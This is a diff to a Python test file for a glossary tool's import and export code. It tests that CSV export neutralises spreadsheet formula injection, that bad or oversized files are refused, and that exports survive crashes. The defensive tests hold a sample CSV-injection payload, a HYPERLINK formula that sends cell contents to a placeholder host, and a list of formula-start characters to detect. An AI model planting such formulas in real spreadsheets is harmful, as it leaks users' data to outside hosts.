@@ -12,13 +12,14 @@ from typing import Any
 
 import pytest
 from click.testing import CliRunner
-from hypothesis import given, settings
+from hypothesis import example, given, settings
 from hypothesis import strategies as st
 
 from workbench.lifecycle import create_workspace
 from workbench.cli import cli
 from workbench.formats import export_file, import_file, load_bundled
-from workbench.formats.glossary_csv import read_csv, write_csv
+from workbench.formats.common import GLOSSARY_MAX_BYTES
+from workbench.formats.glossary_csv import escape_cell, read_csv, unescape_cell, write_csv
 from workbench.formats.glossary_tbx import read_tbx, write_tbx
 from workbench.glossary import (
     Glossary,
@@ -244,6 +245,33 @@ def test_round_trip_keeps_every_field(empty: Workspace, tmp_path: Path, suffix: 
     assert again.read_bytes() == path.read_bytes()
 
 
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
+"""What OWASP's CSV-injection advice says a spreadsheet may run as a formula at the start of a cell."""
+
+
+def exported_cells(path: Path) -> list[str]:
+    with path.open(encoding="utf-8", newline="") as handle:
+        return [cell for row in list(csv.reader(handle))[1:] for cell in row]
+
+
+def test_cells_a_spreadsheet_would_run_as_formulas_are_exported_as_text_and_imported_back(empty: Workspace, tmp_path: Path) -> None:
+    hyperlink = '=HYPERLINK("http://example.org/?leak="&A1,"click")'
+    add_term(empty.store, "plunder", kind="@SUM(A1:A9)", notes=hyperlink,
+             renderings={"es": Rendering("+saqueo", ["-expolio"]), "id": Rendering("'=penjarahan")})
+    path = tmp_path / "glossary.csv"
+    export_file(empty.store, path, LOCALES)
+
+    cells = exported_cells(path)
+    assert not [cell for cell in cells if cell.startswith(FORMULA_STARTS)]
+    assert {"'" + hyperlink, "'@SUM(A1:A9)", "'+saqueo", "'-expolio", "''=penjarahan"} <= set(cells)
+
+    before = get_term(empty.store, "plunder")
+    remove_term(empty.store, "plunder")
+    import_file(empty.store, path, LOCALES)
+    after = get_term(empty.store, "plunder")
+    assert (after.kind, after.notes, after.renderings) == (before.kind, before.notes, before.renderings)
+
+
 def test_import_merges_without_erasing_other_languages_or_fields_the_file_has_no_column_for(empty: Workspace, tmp_path: Path) -> None:
     before = add_term(empty.store, "plunder", english_forms=["plundered"], kind="slogan", treatment="established",
                       notes="used in every statement", case_sensitive=True,
@@ -397,6 +425,79 @@ def test_broken_xml_and_non_tbx_are_refused(empty: Workspace, tmp_path: Path) ->
         import_file(empty.store, spreadsheet, LOCALES)
     with pytest.raises(GlossaryError, match="missing.tbx: no such file: check the path"):
         import_file(empty.store, tmp_path / "missing.tbx", LOCALES)
+
+
+@pytest.mark.parametrize(
+    ("name", "content", "message"),
+    [
+        ("latin1.csv", b"term,es\nplunder,saqueo\nhunger,hambre\ncaf\xe9,x\n",
+         "latin1.csv, line 4: not UTF-8 text (byte 0xe9): save the CSV as UTF-8"),
+        ("bom.csv", b"\xef\xbb\xbfterm,es\n\xff,x\n", "bom.csv, line 2: not UTF-8 text (byte 0xff)"),
+        ("tags.tbx", b'<?xml version="1.0"?>\n<martif>\n<text></martif>\n',
+         "tags.tbx, line 3, column 9: not well-formed XML (mismatched tag): export the glossary again"),
+        ("klingon.tbx", b'<?xml version="1.0" encoding="x-klingon"?>\n<martif/>\n',
+         "klingon.tbx, line 1: unknown encoding: x-klingon: export the glossary again as UTF-8"),
+    ],
+)
+def test_unreadable_glossary_files_are_refused_in_one_line_that_names_the_line(
+        empty: Workspace, tmp_path: Path, name: str, content: bytes, message: str) -> None:
+    path = tmp_path / name
+    path.write_bytes(content)
+    with pytest.raises(GlossaryError) as refused:
+        import_file(empty.store, path, LOCALES)
+    assert str(refused.value).startswith(message)
+    assert "\n" not in str(refused.value)
+
+
+@pytest.mark.parametrize("suffix", [".csv", ".tbx"])
+def test_a_glossary_file_over_the_size_limit_is_refused_before_it_is_parsed(empty: Workspace, tmp_path: Path, suffix: str) -> None:
+    path = tmp_path / f"huge{suffix}"
+    with path.open("w", encoding="utf-8") as handle:  # broken from its first line: only the size may be reported
+        handle.write('term,"es\n' if suffix == ".csv" else "<martif><text>\n")
+        handle.writelines(f"term number {number},término número {number}\n" for number in range(160_000))
+    size = path.stat().st_size
+    assert size > GLOSSARY_MAX_BYTES
+
+    with pytest.raises(GlossaryError) as refused:
+        import_file(empty.store, path, LOCALES)
+    assert str(refused.value) == (f"huge{suffix}: {size / 1e6:.1f} MB ({size:,} bytes) is over the 5.0 MB limit for glossary "
+                                  "files: split it into smaller files and import each")
+
+    result = CliRunner().invoke(cli, ["-w", str(empty.root), "glossary", "import", str(path)])
+    assert result.exit_code == 2
+    assert result.output.startswith("error: ") and result.output.count("\n") == 1 and f"{size:,} bytes" in result.output
+    assert list_terms(empty.store) == []
+
+
+def test_the_glossary_size_limit_can_be_set_per_import(empty: Workspace, tmp_path: Path) -> None:
+    path = tmp_path / "small.csv"
+    path.write_text("term,es\nplunder,saqueo\n", encoding="utf-8")
+    with pytest.raises(GlossaryError, match=r"small.csv: 0.0 MB \(23 bytes\) is over the 0.0 MB limit"):
+        import_file(empty.store, path, LOCALES, max_bytes=22)
+    assert import_file(empty.store, path, LOCALES, max_bytes=23).added == 1
+
+
+@pytest.mark.parametrize("suffix", [".csv", ".tbx"])
+def test_an_interrupted_glossary_export_leaves_the_previous_file_whole(
+        empty: Workspace, tmp_path: Path, suffix: str, monkeypatch: pytest.MonkeyPatch) -> None:
+    add_term(empty.store, "plunder", renderings={"es": Rendering("saqueo")})
+    path = tmp_path / "out" / f"glossary{suffix}"
+    export_file(empty.store, path, LOCALES)
+    before = path.read_bytes()
+    add_term(empty.store, "looting", renderings={"es": Rendering("pillaje")})
+
+    def crash(source: object, target: object) -> None:
+        raise OSError("disk unplugged")
+
+    monkeypatch.setattr("workbench.formats.common.os.replace", crash)
+    with pytest.raises(OSError, match="disk unplugged"):
+        export_file(empty.store, path, LOCALES)
+    assert path.read_bytes() == before
+    assert [p.name for p in path.parent.iterdir()] == [path.name]  # no temporary file left behind
+
+    monkeypatch.undo()
+    assert export_file(empty.store, path, LOCALES) == 2
+    assert b"looting" in path.read_bytes()
 
 
 # -- the bundled glossary --------------------------------------------------------------------------
@@ -644,3 +745,26 @@ def test_any_glossary_survives_a_file_round_trip(terms: list[Term], suffix: str)
         read, skipped = (read_csv if suffix == ".csv" else read_tbx)(path, LOCALES)
     assert skipped == set()
     assert [t.to_dict() for t in read] == [t.to_dict() for t in terms]
+
+
+FORMULA_TEXT = st.tuples(st.sampled_from(["", *FORMULA_STARTS, "'", "'=", "''-", "'@", "'\t"]), st.text()).map("".join)
+
+
+@settings(max_examples=300, deadline=None)
+@given(FORMULA_TEXT)
+def test_any_text_survives_cell_escaping_and_never_starts_a_cell_with_a_formula(text: str) -> None:
+    assert not escape_cell(text).startswith(FORMULA_STARTS)
+    assert unescape_cell(escape_cell(text)) == text
+
+
+@settings(max_examples=100, deadline=None)
+@given(st.lists(FORMULA_TEXT.map(str.strip).filter(bool), min_size=1, max_size=4, unique=True))
+@example(['=HYPERLINK("http://example.org/","click")', "'=quoted already", "line\rbreak", "-"])
+def test_any_text_survives_a_glossary_csv_export_and_import(texts: list[str]) -> None:
+    terms = [Term(0, text, kind=text, notes=text, renderings={"es": Rendering(text)}) for text in texts]
+    with tempfile.TemporaryDirectory() as folder:
+        path = Path(folder) / "glossary.csv"
+        path.write_text(write_csv(terms, LOCALES), encoding="utf-8", newline="")
+        assert not [cell for cell in exported_cells(path) if cell.startswith(FORMULA_STARTS)]
+        read, _ = read_csv(path, LOCALES)
+    assert [(t.term, t.kind, t.notes, t.renderings["es"].preferred) for t in read] == [(text,) * 4 for text in texts]
